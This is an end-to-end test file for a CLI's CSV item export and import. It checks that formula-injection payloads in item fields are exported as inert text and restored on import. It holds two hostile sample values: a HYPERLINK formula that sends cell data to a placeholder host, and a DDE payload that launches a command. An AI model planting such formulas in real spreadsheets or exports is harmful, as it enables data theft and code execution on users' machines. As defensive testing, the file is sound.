"""``items export`` does not hand a spreadsheet formulas planted in item text (issue 12 item 7),
and ``items import`` of the export gives back exactly the same items."""

import csv
import io
from collections.abc import Callable
from pathlib import Path

from entrypoints.container import build_container
from entrypoints.settings import Settings
from tests.e2e.cli.conftest import Cli
from tests.e2e.cli.test_csv import comparable

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_exported_formulas_are_text_and_the_import_restores_them(
    admin_cli: Cli, tmp_path: Path, new_settings: Callable[[Path], Settings]
) -> None:
    admin_cli.add_item("F-1", "--description", DDE)
    admin_cli.json("items", "update", "F-1", "--name", HYPERLINK)
    admin_cli.json("items", "add", "--sku", "-F2", "--name", "'=kept apostrophe", "--price", "1")
    admin_cli.json("items", "add", "--sku", "F-3", "--name", "+1-1", "--price", "2")
    target = tmp_path / "export.csv"
    admin_cli.json("items", "export", str(target))

    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert rows[1][:3] == ["'-F2", "''=kept apostrophe", ""]
    assert rows[2][:3] == ["F-1", "'" + HYPERLINK, "'" + DDE]
    assert rows[3][:2] == ["F-3", "'+1-1"]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row

    assert admin_cli.json("items", "import", str(target))["summary"]["unchanged"] == 3
    fresh = Cli(build_container(new_settings(tmp_path / "fresh")))
    fresh.create_user("root", "admin")
    assert fresh.json("items", "import", str(target))["summary"]["created"] == 3
    original = [comparable(i) for i in admin_cli.json("items", "list", "--sort", "sku")["items"]]
    copied = [comparable(i) for i in fresh.json("items", "list", "--sort", "sku")["items"]]
    assert copied == original
    assert fresh.json("items", "show", "F-1")["name"] == HYPERLINK
    assert fresh.json("items", "show", "--", "-F2")["name"] == "'=kept apostrophe"
